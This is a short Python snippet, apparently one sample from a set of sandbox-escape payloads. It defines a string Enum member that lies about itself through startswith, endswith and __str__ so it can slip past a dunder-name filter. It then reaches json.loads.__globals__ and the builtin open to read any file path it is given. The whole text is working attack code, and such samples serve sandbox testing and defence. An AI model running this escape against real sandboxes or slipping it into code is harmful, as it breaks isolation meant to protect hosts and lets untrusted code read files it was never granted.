# The name is a member of an enum that is a string, and answers questions about itself with lies.
# after: read
# source: own
import json
from enum import Enum
class Name(str, Enum):
    A = "__globals__"
    def startswith(self, *a): return False
    def endswith(self, *a): return False
    def __str__(self): return "name"
def attack(path, **_):
    return {"text": getattr(json.loads, Name.A)["__builtins__"]["open"](path).read()}
